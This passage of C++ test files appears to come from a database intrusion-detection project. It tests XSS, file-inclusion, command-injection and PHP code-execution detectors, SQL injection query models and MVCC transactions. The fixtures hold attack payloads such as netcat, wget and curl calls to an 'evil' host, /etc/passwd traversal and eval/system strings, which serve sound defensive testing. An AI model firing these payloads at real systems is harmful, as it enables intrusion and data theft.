      septic->set_strict_numeric_types(on);
      septic->set_log_processed_queries(on);
      on = !on;
      std::this_thread::sleep_for(std::chrono::microseconds(50));
    }
  });
  std::vector<std::thread> drivers;
  std::atomic<uint64_t> errors{0};
  for (int c = 0; c < 4; ++c) {
    drivers.emplace_back([&] {
      engine::Session s("driver");
      for (int i = 0; i < 200; ++i) {
        try {
          db.execute(s, "SELECT v FROM cf WHERE id = 1");
        } catch (const std::exception&) {
          ++errors;
        }
      }
    });
  }
  for (auto& t : drivers) t.join();
  stop.store(true);
  flipper.join();
  EXPECT_EQ(errors.load(), 0u);
  EXPECT_EQ(septic->stats().queries_seen, 1u + 4 * 200);
  EXPECT_EQ(septic->stats().septic_internal_errors, 0u);
}

}  // namespace
}  // namespace septic

#include "septic/plugins/plugin.h"

#include <gtest/gtest.h>

#include "septic/plugins/html_parser.h"

namespace septic::core {
namespace {

// ------------------------------------------------------------- HTML parser

TEST(HtmlParser, EntityDecoding) {
  EXPECT_EQ(html::decode_entities("&lt;b&gt;"), "<b>");
  EXPECT_EQ(html::decode_entities("&amp;&quot;&apos;"), "&\"'");
  EXPECT_EQ(html::decode_entities("&#60;&#x3C;"), "<<");
  EXPECT_EQ(html::decode_entities("&#700;"), "\xca\xbc");  // U+02BC
  EXPECT_EQ(html::decode_entities("no entities"), "no entities");
  EXPECT_EQ(html::decode_entities("&bogus;"), "&bogus;");
  EXPECT_EQ(html::decode_entities("a & b"), "a & b");
}

TEST(HtmlParser, SimpleTagWithAttributes) {
  auto frag = html::parse_fragment("<a href=\"http://x\" target=_blank>hi</a>");
  ASSERT_EQ(frag.tags.size(), 2u);
  EXPECT_EQ(frag.tags[0].name, "a");
  ASSERT_EQ(frag.tags[0].attributes.size(), 2u);
  EXPECT_EQ(frag.tags[0].attributes[0].name, "href");
  EXPECT_EQ(frag.tags[0].attributes[0].value, "http://x");
  EXPECT_TRUE(frag.tags[1].closing);
  EXPECT_EQ(frag.text, "hi");
}

TEST(HtmlParser, LooseAngleBracketIsText) {
  auto frag = html::parse_fragment("1 < 2 and 3 > 2");
  EXPECT_TRUE(frag.tags.empty());
  EXPECT_NE(frag.text.find('<'), std::string::npos);
}

TEST(HtmlParser, UnterminatedTagStillParsed) {
  // Browsers (and XSS payloads) tolerate a missing '>'.
  auto frag = html::parse_fragment("<img src=x onerror=alert(1)");
  ASSERT_EQ(frag.tags.size(), 1u);
  EXPECT_EQ(frag.tags[0].name, "img");
  EXPECT_NE(frag.tags[0].find_attr("onerror"), nullptr);
}

TEST(HtmlParser, CommentSkipped) {
  auto frag = html::parse_fragment("<!-- <script>x</script> -->ok");
  EXPECT_TRUE(frag.tags.empty());
  EXPECT_EQ(frag.text, "ok");
}

TEST(HtmlParser, SelfClosingAndQuotedValues) {
  auto frag = html::parse_fragment("<br/><input value='a b'>");
  ASSERT_EQ(frag.tags.size(), 2u);
  EXPECT_TRUE(frag.tags[0].self_closing);
  EXPECT_EQ(frag.tags[1].find_attr("value")->value, "a b");
}

// -------------------------------------------------------------- XSS plugin

class XssCases : public ::testing::TestWithParam<const char*> {};

TEST_P(XssCases, Detected) {
  auto plugin = make_xss_plugin();
  ASSERT_TRUE(plugin->quick_check(GetParam())) << GetParam();
  EXPECT_TRUE(plugin->deep_check(GetParam()).has_value()) << GetParam();
}

INSTANTIATE_TEST_SUITE_P(
    Payloads, XssCases,
    ::testing::Values(
        "<script>alert('Hello!');</script>",          // the paper's example
        "<SCRIPT SRC=http://evil/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<svg onload=confirm(1)>",
        "<a href=\"javascript:alert(1)\">clickme</a>",
        "<a href='jav\tascript:alert(1)'>tab-split</a>",
        "<iframe src=//evil.example></iframe>",
        "<form action=javascript:alert(1)><input type=submit>",
        "<body background=\"javascript:alert(1)\">",
        "<div style=\"width: expression(alert(1))\">ie</div>",
        "&lt;script&gt;alert(1)&lt;/script&gt;"));  // entity-encoded layer

class XssBenign : public ::testing::TestWithParam<const char*> {};

TEST_P(XssBenign, NotDetected) {
  auto plugin = make_xss_plugin();
  // quick_check may fire (it is a cheap filter); deep_check must clear it.
  if (plugin->quick_check(GetParam())) {
    EXPECT_FALSE(plugin->deep_check(GetParam()).has_value()) << GetParam();
  }
}

INSTANTIATE_TEST_SUITE_P(
    Inputs, XssBenign,
    ::testing::Values("budget <= 100 EUR", "a < b and c > d",
                      "Dear <name>, welcome",  // template placeholder
                      "5 > 3", "plain text", "math: 1<2>0",
                      "<b>bold</b> is formatting, not script",
                      "price in < USD >"));

// ---------------------------------------------------------- RFI/LFI plugin

class FileIncCases : public ::testing::TestWithParam<const char*> {};

TEST_P(FileIncCases, Detected) {
  auto plugin = make_fileinc_plugin();
  ASSERT_TRUE(plugin->quick_check(GetParam())) << GetParam();
  EXPECT_TRUE(plugin->deep_check(GetParam()).has_value()) << GetParam();
}

INSTANTIATE_TEST_SUITE_P(
    Payloads, FileIncCases,
    ::testing::Values("http://203.0.113.7/shell.php?cmd=id",
                      "https://evil.example/x.php?c=1",
                      "ftp://203.0.113.8/payload.txt",
                      "php://input", "php://filter/convert.base64-encode",
                      "expect://id", "zip://archive.zip#shell.php",
                      "../../../../etc/passwd",
                      "..\\..\\windows\\system32\\config",
                      "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                      "/etc/shadow", "c:\\windows\\win.ini"));

class FileIncBenign : public ::testing::TestWithParam<const char*> {};

TEST_P(FileIncBenign, NotDetected) {
  auto plugin = make_fileinc_plugin();
  if (plugin->quick_check(GetParam())) {
    EXPECT_FALSE(plugin->deep_check(GetParam()).has_value()) << GetParam();
  }
}

INSTANTIATE_TEST_SUITE_P(
    Inputs, FileIncBenign,
    ::testing::Values("http://device.local/fridge",     // plain device URL
                      "https://example.com/about",      // plain homepage
                      "../styles/main.css",             // single-level relative
                      "docs/readme.txt", "a normal note",
                      "http://vendor.example/manual"));

// -------------------------------------------------------------- OSCI plugin

class OsciCases : public ::testing::TestWithParam<const char*> {};

TEST_P(OsciCases, Detected) {
  auto plugin = make_osci_plugin();
  ASSERT_TRUE(plugin->quick_check(GetParam())) << GetParam();
  EXPECT_TRUE(plugin->deep_check(GetParam()).has_value()) << GetParam();
}

INSTANTIATE_TEST_SUITE_P(
    Payloads, OsciCases,
    ::testing::Values("8.8.8.8; cat /etc/passwd", "x | nc evil 4444",
                      "`wget http://evil/x`", "a && rm -rf /tmp/x",
                      "$(curl http://evil)", "127.0.0.1\nwget evil/x.sh",
                      "host; /bin/sh -c 'id'", "1 || ping -c 9 target",
                      "x; python -c 'import os'"));

class OsciBenign : public ::testing::TestWithParam<const char*> {};

TEST_P(OsciBenign, NotDetected) {
  auto plugin = make_osci_plugin();
  if (plugin->quick_check(GetParam())) {
    EXPECT_FALSE(plugin->deep_check(GetParam()).has_value()) << GetParam();
  }
}

INSTANTIATE_TEST_SUITE_P(
    Inputs, OsciBenign,
    ::testing::Values("prefer 220V; low noise", "R&D department",
                      "Tom & Jerry", "a | b notation",
                      "semicolons; are; punctuation",
                      "the cat sat on the mat",  // 'cat' not after metachar
                      "price $(approx)"));

// --------------------------------------------------------------- RCE plugin

class RceCases : public ::testing::TestWithParam<const char*> {};

TEST_P(RceCases, Detected) {
  auto plugin = make_rce_plugin();
  ASSERT_TRUE(plugin->quick_check(GetParam())) << GetParam();
  EXPECT_TRUE(plugin->deep_check(GetParam()).has_value()) << GetParam();
}

INSTANTIATE_TEST_SUITE_P(
    Payloads, RceCases,
    ::testing::Values("eval(base64_decode('cGhwaW5mbygp'))",
                      "system('id')", "exec(\"whoami\")",
                      "assert($_GET['x'])", "passthru('ls -la')",
                      "<?php system('id'); ?>", "<?= `id` ?>",
                      "O:8:\"EvilUser\":1:{s:4:\"code\";s:8:\"touch /x\";}",
                      "a:2:{i:0;s:4:\"evil\";i:1;O:3:\"Obj\":0:{}}",
                      "preg_replace('/x/e', 'system(\"id\")', 'x')"));

class RceBenign : public ::testing::TestWithParam<const char*> {};

TEST_P(RceBenign, NotDetected) {
  auto plugin = make_rce_plugin();
  if (plugin->quick_check(GetParam())) {
    EXPECT_FALSE(plugin->deep_check(GetParam()).has_value()) << GetParam();
  }
}

INSTANTIATE_TEST_SUITE_P(
    Inputs, RceBenign,
    ::testing::Values("let me evaluate the options",
                      "the system (HVAC) is fine",
                      "time: 10:30",  // colon-digit but not serialized
                      "execute the plan", "normal text",
                      "preg_replace('/x/i', 'y', 'z')",  // no /e modifier
                      "assertiveness training"));

// ----------------------------------------------------------- plugin battery

TEST(PluginBattery, DefaultSetHasAllFourClasses) {
  auto plugins = make_default_plugins();
  ASSERT_EQ(plugins.size(), 4u);
  std::vector<std::string> names;
  for (const auto& p : plugins) names.emplace_back(p->name());
  EXPECT_EQ(names[0], "XSS");
  EXPECT_EQ(names[1], "RFI/LFI");
  EXPECT_EQ(names[2], "OSCI");
  EXPECT_EQ(names[3], "RCE");
}

TEST(PluginBattery, QuickCheckIsCheapFilterNotVerdict) {
  // quick_check may over-approximate but must never under-approximate
  // relative to deep_check: if deep fires, quick must have fired.
  auto plugins = make_default_plugins();
  const char* payloads[] = {
      "<script>x</script>", "php://input", "x; cat /etc/passwd",
      "eval(base64_decode('x'))"};
  for (const auto& plugin : plugins) {
    for (const char* p : payloads) {
      if (plugin->deep_check(p).has_value()) {
        EXPECT_TRUE(plugin->quick_check(p))
            << plugin->name() << " deep fired without quick on " << p;
      }
    }
  }
}

}  // namespace
}  // namespace septic::core

#include "septic/query_model.h"

#include <gtest/gtest.h>

#include "sqlcore/parser.h"

namespace septic::core {
namespace {

sql::ItemStack stack_of(std::string_view q) {
  return sql::build_item_stack(sql::parse(q).statement);
}

TEST(QueryModel, BlanksOnlyDataNodes) {
  sql::ItemStack qs =
      stack_of("SELECT * FROM t WHERE a = 'x' AND b = 1 AND c = 2.5");
  QueryModel qm = make_query_model(qs);
  ASSERT_EQ(qm.nodes.size(), qs.nodes.size());
  for (size_t i = 0; i < qs.nodes.size(); ++i) {
    EXPECT_EQ(qm.nodes[i].type, qs.nodes[i].type);
    if (sql::is_data_item(qs.nodes[i].type)) {
      EXPECT_EQ(qm.nodes[i].data, kBottom);
    } else {
      EXPECT_EQ(qm.nodes[i].data, qs.nodes[i].data);
    }
  }
}

TEST(QueryModel, SameShapeDifferentDataSameModel) {
  QueryModel a =
      make_query_model(stack_of("SELECT * FROM t WHERE x = 'alpha'"));
  QueryModel b =
      make_query_model(stack_of("SELECT * FROM t WHERE x = 'omega'"));
  EXPECT_EQ(a, b);
}

TEST(QueryModel, DifferentLiteralTypesDifferentModel) {
  // 'alpha' (STRING_ITEM) vs 1 (INT_ITEM): distinct models.
  QueryModel a =
      make_query_model(stack_of("SELECT * FROM t WHERE x = 'alpha'"));
  QueryModel b = make_query_model(stack_of("SELECT * FROM t WHERE x = 1"));
  EXPECT_NE(a, b);
}

TEST(QueryModel, ModelOfModelIsIdempotent) {
  sql::ItemStack qs = stack_of("SELECT a FROM t WHERE b = 7");
  QueryModel once = make_query_model(qs);
  // Re-deriving from a stack whose data is already ⊥ changes nothing.
  sql::ItemStack as_stack;
  as_stack.kind = once.kind;
  as_stack.nodes = once.nodes;
  QueryModel twice = make_query_model(as_stack);
  EXPECT_EQ(once, twice);
}

TEST(QueryModel, ToStringShowsBottom) {
  QueryModel qm = make_query_model(stack_of("SELECT a FROM t WHERE b = 7"));
  EXPECT_NE(qm.to_string().find(kBottom), std::string::npos);
}

class ModelSerializeRoundTrip : public ::testing::TestWithParam<const char*> {
};

TEST_P(ModelSerializeRoundTrip, SerializeDeserialize) {
  QueryModel qm = make_query_model(stack_of(GetParam()));
  QueryModel out;
  ASSERT_TRUE(QueryModel::deserialize(qm.serialize(), out));
  EXPECT_EQ(out, qm);
}

INSTANTIATE_TEST_SUITE_P(
    Queries, ModelSerializeRoundTrip,
    ::testing::Values(
        "SELECT 1",
        "SELECT * FROM tickets WHERE reservID = 'X' AND creditCard = 1",
        "INSERT INTO t (a, b) VALUES ('x;y,z', 2)",
        "UPDATE t SET a = 'with\\nnewline' WHERE id = 1",
        "DELETE FROM t WHERE id IN (1, 2, 3)",
        "SELECT a FROM t GROUP BY a HAVING COUNT(*) > 1 ORDER BY a LIMIT 5",
        "SELECT a FROM t UNION SELECT b FROM u"));

TEST(ModelDeserialize, RejectsGarbage) {
  QueryModel qm;
  EXPECT_FALSE(QueryModel::deserialize("", qm));
  EXPECT_FALSE(QueryModel::deserialize("notanumber;0,x", qm));
  EXPECT_FALSE(QueryModel::deserialize("9", qm));        // kind out of range
  EXPECT_FALSE(QueryModel::deserialize("0;99,x", qm));   // type out of range
  EXPECT_FALSE(QueryModel::deserialize("0;nocomma", qm));
}

TEST(ModelSerialize, EscapesSeparators) {
  QueryModel qm = make_query_model(
      stack_of("INSERT INTO t (a) VALUES ('semi;colon,comma')"));
  std::string line = qm.serialize();
  // The serialized form must be a single logical record (no raw separators
  // inside escaped data breaking the framing). ⊥ data has no separators,
  // but element data like table names passes through; check reparse.
  QueryModel out;
  ASSERT_TRUE(QueryModel::deserialize(line, out));
  EXPECT_EQ(out, qm);
}

}  // namespace
}  // namespace septic::core

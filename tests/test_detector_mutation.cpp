// Metamorphic mutation-testing of the SQLI detector: for a spread of query
// shapes, EVERY structural mutation of the item stack (node inserted,
// removed, type changed, element data changed) must be detected against
// the original's model, while every data-only mutation (literal DATA
// change, INT<->DECIMAL numeric swap) must pass. This pins the exact
// boundary of what a query model permits.
#include <gtest/gtest.h>

#include "septic/detector.h"
#include "sqlcore/parser.h"

namespace septic::core {
namespace {

sql::ItemStack stack_of(const char* q) {
  return sql::build_item_stack(sql::parse(q).statement);
}

bool is_numeric_item(sql::ItemType t) {
  return t == sql::ItemType::kIntItem || t == sql::ItemType::kDecimalItem;
}

class DetectorMutation : public ::testing::TestWithParam<const char*> {};

TEST_P(DetectorMutation, NodeInsertionAlwaysDetected) {
  sql::ItemStack qs = stack_of(GetParam());
  QueryModel qm = make_query_model(qs);
  for (size_t pos = 0; pos <= qs.nodes.size(); ++pos) {
    sql::ItemStack mutated = qs;
    mutated.nodes.insert(mutated.nodes.begin() + static_cast<ptrdiff_t>(pos),
                         {sql::ItemType::kIntItem, "1"});
    SqliVerdict v = compare_qs_qm(mutated, qm);
    EXPECT_TRUE(v.attack) << "insert at " << pos;
    EXPECT_EQ(v.step, SqliStep::kStructural);
  }
}

TEST_P(DetectorMutation, NodeRemovalAlwaysDetected) {
  sql::ItemStack qs = stack_of(GetParam());
  QueryModel qm = make_query_model(qs);
  for (size_t pos = 0; pos < qs.nodes.size(); ++pos) {
    sql::ItemStack mutated = qs;
    mutated.nodes.erase(mutated.nodes.begin() + static_cast<ptrdiff_t>(pos));
    SqliVerdict v = compare_qs_qm(mutated, qm);
    EXPECT_TRUE(v.attack) << "remove at " << pos;
    EXPECT_EQ(v.step, SqliStep::kStructural);
  }
}

TEST_P(DetectorMutation, ElementDataChangeAlwaysDetected) {
  sql::ItemStack qs = stack_of(GetParam());
  QueryModel qm = make_query_model(qs);
  for (size_t pos = 0; pos < qs.nodes.size(); ++pos) {
    if (sql::is_data_item(qs.nodes[pos].type)) continue;
    sql::ItemStack mutated = qs;
    mutated.nodes[pos].data += "_mutated";
    SqliVerdict v = compare_qs_qm(mutated, qm);
    EXPECT_TRUE(v.attack) << "element data at " << pos;
    EXPECT_EQ(v.step, SqliStep::kSyntactic);
  }
}

TEST_P(DetectorMutation, TypeSwapToStringDetectedOnDataNodes) {
  sql::ItemStack qs = stack_of(GetParam());
  QueryModel qm = make_query_model(qs);
  for (size_t pos = 0; pos < qs.nodes.size(); ++pos) {
    if (!is_numeric_item(qs.nodes[pos].type)) continue;
    sql::ItemStack mutated = qs;
    // A quoted payload would surface as STRING_ITEM where a number was.
    mutated.nodes[pos].type = sql::ItemType::kStringItem;
    SqliVerdict v = compare_qs_qm(mutated, qm);
    EXPECT_TRUE(v.attack) << "numeric->string at " << pos;
    EXPECT_EQ(v.step, SqliStep::kSyntactic);
  }
}

TEST_P(DetectorMutation, DataValueChangesAlwaysPass) {
  sql::ItemStack qs = stack_of(GetParam());
  QueryModel qm = make_query_model(qs);
  for (size_t pos = 0; pos < qs.nodes.size(); ++pos) {
    if (!sql::is_data_item(qs.nodes[pos].type)) continue;
    sql::ItemStack mutated = qs;
    mutated.nodes[pos].data = "completely different value 12345";
    EXPECT_FALSE(compare_qs_qm(mutated, qm).attack) << "data at " << pos;
  }
}

TEST_P(DetectorMutation, NumericTypeSwapsPass) {
  sql::ItemStack qs = stack_of(GetParam());
  QueryModel qm = make_query_model(qs);
  for (size_t pos = 0; pos < qs.nodes.size(); ++pos) {
    if (!is_numeric_item(qs.nodes[pos].type)) continue;
    sql::ItemStack mutated = qs;
    mutated.nodes[pos].type =
        mutated.nodes[pos].type == sql::ItemType::kIntItem
            ? sql::ItemType::kDecimalItem
            : sql::ItemType::kIntItem;
    // The same form field legitimately yields "500" or "99.5".
    EXPECT_FALSE(compare_qs_qm(mutated, qm).attack)
        << "numeric swap at " << pos;
  }
}

INSTANTIATE_TEST_SUITE_P(
    Shapes, DetectorMutation,
    ::testing::Values(
        "SELECT * FROM tickets WHERE reservID = 'X' AND creditCard = 1234",
        "SELECT a, b FROM t WHERE c LIKE '%q%' OR d BETWEEN 1 AND 9",
        "INSERT INTO t (a, b, c) VALUES ('x', 2, 3.5)",
        "UPDATE t SET a = 'v', b = b + 1 WHERE id IN (1, 2, 3)",
        "DELETE FROM t WHERE x = 5 AND y IS NOT NULL",
        "SELECT x, COUNT(*) FROM t GROUP BY x HAVING COUNT(*) > 1 "
        "ORDER BY x DESC LIMIT 5",
        "SELECT a FROM t WHERE b = 1 UNION SELECT c FROM u WHERE d = 'z'",
        "SELECT t1.a FROM t1 JOIN t2 ON t1.id = t2.tid WHERE t2.v = 7"));

}  // namespace
}  // namespace septic::core

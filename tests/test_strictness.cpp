// The detector's data-type strictness knob (ablation E10 as assertions).
#include <gtest/gtest.h>

#include <memory>

#include "engine/database.h"
#include "engine/error.h"
#include "septic/septic.h"
#include "sqlcore/parser.h"

namespace septic::core {
namespace {

sql::ItemStack stack_of(const char* q) {
  return sql::build_item_stack(sql::parse(q).statement);
}

TEST(Strictness, CompatibleAcceptsNumericSpellingDrift) {
  QueryModel qm = make_query_model(stack_of("SELECT a FROM t WHERE b = 9.5"));
  sql::ItemStack int_spelling = stack_of("SELECT a FROM t WHERE b = 9");
  EXPECT_FALSE(compare_qs_qm(int_spelling, qm, /*strict=*/false).attack);
  EXPECT_TRUE(compare_qs_qm(int_spelling, qm, /*strict=*/true).attack);
}

TEST(Strictness, BothSettingsFlagStringWhereNumberWas) {
  QueryModel qm = make_query_model(stack_of("SELECT a FROM t WHERE b = 9"));
  sql::ItemStack quoted = stack_of("SELECT a FROM t WHERE b = 'x'");
  EXPECT_TRUE(compare_qs_qm(quoted, qm, false).attack);
  EXPECT_TRUE(compare_qs_qm(quoted, qm, true).attack);
}

TEST(Strictness, BothSettingsFlagStructuralChange) {
  QueryModel qm = make_query_model(stack_of("SELECT a FROM t WHERE b = 9"));
  sql::ItemStack injected =
      stack_of("SELECT a FROM t WHERE b = 9 OR 1 = 1");
  EXPECT_TRUE(compare_qs_qm(injected, qm, false).attack);
  EXPECT_TRUE(compare_qs_qm(injected, qm, true).attack);
}

TEST(Strictness, SepticConfigPlumbing) {
  engine::Database db;
  engine::Session s;
  db.execute_admin("CREATE TABLE st (a TEXT, b DOUBLE)");
  db.execute_admin("INSERT INTO st VALUES ('x', 1.5)");
  auto guard = std::make_shared<Septic>();
  db.set_interceptor(guard);
  guard->set_mode(Mode::kTraining);
  db.execute(s, "SELECT a FROM st WHERE b = 1.5");
  guard->set_mode(Mode::kPrevention);

  // Default (compatible): an integer-spelled probe passes.
  EXPECT_NO_THROW(db.execute(s, "SELECT a FROM st WHERE b = 2"));

  guard->set_strict_numeric_types(true);
  EXPECT_THROW(db.execute(s, "SELECT a FROM st WHERE b = 2"),
               engine::DbError);
  EXPECT_NO_THROW(db.execute(s, "SELECT a FROM st WHERE b = 2.5"));
}

}  // namespace
}  // namespace septic::core

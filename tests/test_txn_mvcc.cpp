// Behavior bar for the MVCC transaction subsystem: snapshot isolation,
// read-own-writes, first-committer-wins conflicts, read-only transactions,
// DDL-vs-DML rollback interaction with the digest cache, the
// abort-transaction-on-block policy, and transaction-control errors over
// the wire protocol.
#include <gtest/gtest.h>

#include <atomic>
#include <memory>
#include <thread>

#include "engine/database.h"
#include "engine/error.h"
#include "net/client.h"
#include "net/server.h"
#include "septic/septic.h"

namespace septic::engine {
namespace {

class MvccTest : public ::testing::Test {
 protected:
  void SetUp() override {
    db.execute_admin(
        "CREATE TABLE acct (id INT PRIMARY KEY AUTO_INCREMENT, owner TEXT, "
        "balance INT)");
    db.execute_admin(
        "INSERT INTO acct (owner, balance) VALUES ('a', 100), ('b', 200)");
  }
  int64_t balance(Session& s, const char* who) {
    return db
        .execute(s, std::string("SELECT balance FROM acct WHERE owner = '") +
                        who + "'")
        .rows[0][0]
        .as_int();
  }
  int64_t count(Session& s) {
    return db.execute(s, "SELECT COUNT(*) FROM acct").rows[0][0].as_int();
  }
  Database db;
  Session session;
};

TEST_F(MvccTest, SingleStatementAutocommitIsImmediatelyVisible) {
  db.execute(session, "INSERT INTO acct (owner, balance) VALUES ('c', 7)");
  Session other("other");
  EXPECT_EQ(balance(other, "c"), 7);
  db.execute(session, "UPDATE acct SET balance = 8 WHERE owner = 'c'");
  EXPECT_EQ(balance(other, "c"), 8);
  db.execute(session, "DELETE FROM acct WHERE owner = 'c'");
  EXPECT_EQ(count(other), 2);
}

TEST_F(MvccTest, MultiStatementRollbackDiscardsEverything) {
  db.execute(session, "BEGIN");
  db.execute(session, "UPDATE acct SET balance = 0 WHERE owner = 'a'");
  db.execute(session, "INSERT INTO acct (owner, balance) VALUES ('c', 5)");
  db.execute(session, "DELETE FROM acct WHERE owner = 'b'");
  db.execute(session, "ROLLBACK");
  EXPECT_EQ(balance(session, "a"), 100);
  EXPECT_EQ(balance(session, "b"), 200);
  EXPECT_EQ(count(session), 2);
  txn::TxnStats ts = db.txn_stats();
  EXPECT_EQ(ts.begun, 1u);
  EXPECT_EQ(ts.rolled_back, 1u);
  EXPECT_EQ(ts.committed, 0u);
}

TEST_F(MvccTest, ReadOwnWrites) {
  db.execute(session, "BEGIN");
  db.execute(session, "INSERT INTO acct (owner, balance) VALUES ('c', 5)");
  // The inserting transaction sees its buffered row...
  EXPECT_EQ(balance(session, "c"), 5);
  EXPECT_EQ(count(session), 3);
  // ...including through updates and deletes of buffered and base rows.
  db.execute(session, "UPDATE acct SET balance = 6 WHERE owner = 'c'");
  EXPECT_EQ(balance(session, "c"), 6);
  db.execute(session, "UPDATE acct SET balance = balance + 1 WHERE owner = 'a'");
  EXPECT_EQ(balance(session, "a"), 101);
  db.execute(session, "DELETE FROM acct WHERE owner = 'b'");
  EXPECT_EQ(count(session), 2);
  // Another session sees none of it until COMMIT.
  Session other("other");
  EXPECT_EQ(count(other), 2);
  EXPECT_EQ(balance(other, "a"), 100);
  EXPECT_EQ(balance(other, "b"), 200);
  db.execute(session, "COMMIT");
  EXPECT_EQ(count(other), 2);  // +c, -b
  EXPECT_EQ(balance(other, "c"), 6);
  EXPECT_EQ(balance(other, "a"), 101);
}

TEST_F(MvccTest, WriteWriteConflictAbortsSecondCommitter) {
  Session first("first"), second("second");
  db.execute(first, "BEGIN");
  db.execute(second, "BEGIN");
  db.execute(first, "UPDATE acct SET balance = 111 WHERE owner = 'a'");
  db.execute(second, "UPDATE acct SET balance = 222 WHERE owner = 'a'");
  db.execute(first, "COMMIT");
  try {
    db.execute(second, "COMMIT");
    FAIL() << "second committer must conflict";
  } catch (const DbError& e) {
    EXPECT_EQ(e.code(), ErrorCode::kConflict);
  }
  EXPECT_EQ(balance(first, "a"), 111);  // first committer won
  txn::TxnStats ts = db.txn_stats();
  EXPECT_EQ(ts.conflicts, 1u);
  EXPECT_EQ(ts.committed, 1u);
  EXPECT_EQ(ts.rolled_back, 1u);
  // The conflicted transaction is gone: a fresh BEGIN works.
  EXPECT_NO_THROW(db.execute(second, "BEGIN"));
  EXPECT_NO_THROW(db.execute(second, "COMMIT"));
}

TEST_F(MvccTest, DeleteConflictsWithConcurrentUpdate) {
  Session first("first"), second("second");
  db.execute(first, "BEGIN");
  db.execute(second, "BEGIN");
  db.execute(first, "UPDATE acct SET balance = 1 WHERE owner = 'b'");
  db.execute(second, "DELETE FROM acct WHERE owner = 'b'");
  db.execute(first, "COMMIT");
  EXPECT_THROW(db.execute(second, "COMMIT"), DbError);
  EXPECT_EQ(db.txn_stats().conflicts, 1u);
  EXPECT_EQ(balance(first, "b"), 1);
}

TEST_F(MvccTest, DisjointWritesDoNotConflict) {
  Session first("first"), second("second");
  db.execute(first, "BEGIN");
  db.execute(second, "BEGIN");
  db.execute(first, "UPDATE acct SET balance = 1 WHERE owner = 'a'");
  db.execute(second, "UPDATE acct SET balance = 2 WHERE owner = 'b'");
  EXPECT_NO_THROW(db.execute(first, "COMMIT"));
  EXPECT_NO_THROW(db.execute(second, "COMMIT"));
  EXPECT_EQ(db.txn_stats().conflicts, 0u);
  EXPECT_EQ(balance(first, "a"), 1);
  EXPECT_EQ(balance(first, "b"), 2);
}

TEST_F(MvccTest, SnapshotReadIsRepeatableUnderConcurrentWriter) {
  Session reader("reader"), writer("writer");
  db.execute(reader, "BEGIN");
  EXPECT_EQ(balance(reader, "a"), 100);
  // A concurrent autocommit write lands and is visible to new snapshots...
  db.execute(writer, "UPDATE acct SET balance = 999 WHERE owner = 'a'");
  Session fresh("fresh");
  EXPECT_EQ(balance(fresh, "a"), 999);
  // ...but the open transaction keeps reading its pinned snapshot.
  EXPECT_EQ(balance(reader, "a"), 100);
  db.execute(reader, "COMMIT");
  EXPECT_EQ(balance(reader, "a"), 999);
}

TEST_F(MvccTest, SnapshotScanNeverSeesHalfACommit) {
  // A reader's full-table scan must observe a multi-row transaction
  // all-or-nothing, even while a writer thread keeps committing.
  std::atomic<bool> stop{false};
  std::thread writer([&] {
    Session ws("writer");
    for (int i = 0; i < 50 && !stop.load(); ++i) {
      db.execute(ws, "BEGIN");
      db.execute(ws, "UPDATE acct SET balance = balance - 10 WHERE owner = 'a'");
      db.execute(ws, "UPDATE acct SET balance = balance + 10 WHERE owner = 'b'");
      db.execute(ws, "COMMIT");
    }
  });
  Session rs("reader");
  for (int i = 0; i < 200; ++i) {
    // Transfer invariant: the sum is constant under every snapshot.
    auto sum = db.execute(rs, "SELECT SUM(balance) FROM acct");
    ASSERT_EQ(sum.rows[0][0].as_int(), 300);
  }
  stop.store(true);
  writer.join();
}

TEST_F(MvccTest, ReadOnlyTransactionRejectsWrites) {
  db.execute(session, "START TRANSACTION READ ONLY");
  EXPECT_EQ(count(session), 2);
  try {
    db.execute(session, "UPDATE acct SET balance = 0 WHERE owner = 'a'");
    FAIL() << "write in READ ONLY transaction must throw";
  } catch (const DbError& e) {
    EXPECT_EQ(e.code(), ErrorCode::kTxnState);
  }
  EXPECT_THROW(db.execute(session, "CREATE TABLE scratch (x INT)"), DbError);
  // The transaction itself survives the rejected statement.
  EXPECT_NO_THROW(db.execute(session, "COMMIT"));
  EXPECT_EQ(balance(session, "a"), 100);
}

TEST_F(MvccTest, DdlRollbackBumpsVersionExactlyOnceAndKillsCachedVerdicts) {
  const char* q = "SELECT balance FROM acct WHERE owner = 'a'";
  db.execute(session, q);
  db.execute(session, q);  // second run replays from the digest cache
  DigestCacheStats before = db.digest_cache_stats();
  EXPECT_GE(before.hits, 1u);

  const uint64_t v0 = db.ddl_version();
  db.execute(session, "BEGIN");
  db.execute(session, "CREATE TABLE scratch (x INT)");
  const uint64_t v_mid = db.ddl_version();
  EXPECT_EQ(v_mid, v0 + 1);  // DDL applies (and bumps) immediately
  db.execute(session, "ROLLBACK");
  // The undo replay restores the catalog and bumps exactly once more.
  EXPECT_EQ(db.ddl_version(), v_mid + 1);
  EXPECT_EQ(db.catalog().find("scratch"), nullptr);

  // Regression: the pre-rollback cache entry must not replay against the
  // restored catalog — the next run re-enters the full pipeline. "hits"
  // counts lookups that merely *found* an entry; the proof the stale
  // verdict did not survive is the generation gate discarding it
  // (invalidation) and the full pipeline re-inserting under the
  // post-rollback ddl_version.
  db.execute(session, q);
  DigestCacheStats after = db.digest_cache_stats();
  EXPECT_EQ(after.invalidations, before.invalidations + 1);
  EXPECT_EQ(after.insertions, before.insertions + 1);
}

TEST_F(MvccTest, DmlOnlyRollbackPreservesCachedVerdicts) {
  const char* q = "SELECT balance FROM acct WHERE owner = 'a'";
  db.execute(session, q);
  db.execute(session, q);
  DigestCacheStats before = db.digest_cache_stats();
  EXPECT_GE(before.hits, 1u);
  const uint64_t v0 = db.ddl_version();

  db.execute(session, "BEGIN");
  db.execute(session, "UPDATE acct SET balance = 0 WHERE owner = 'a'");
  db.execute(session, "ROLLBACK");

  // Nothing shared changed: no version bump, and the cached pipeline
  // result replays (a hit, not an invalidation).
  EXPECT_EQ(db.ddl_version(), v0);
  db.execute(session, q);
  EXPECT_EQ(db.digest_cache_stats().hits, before.hits + 1);
  EXPECT_EQ(balance(session, "a"), 100);
}

TEST_F(MvccTest, AbortTxnOnBlockPolicyRollsBackPoisonedTransaction) {
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);
  septic->set_mode(core::Mode::kTraining);
  db.execute(session, "SELECT balance FROM acct WHERE owner = 'a'");
  septic->set_mode(core::Mode::kPrevention);
  septic->set_abort_txn_on_block(true);

  db.execute(session, "BEGIN");
  db.execute(session, "UPDATE acct SET balance = 0 WHERE owner = 'a'");
  try {
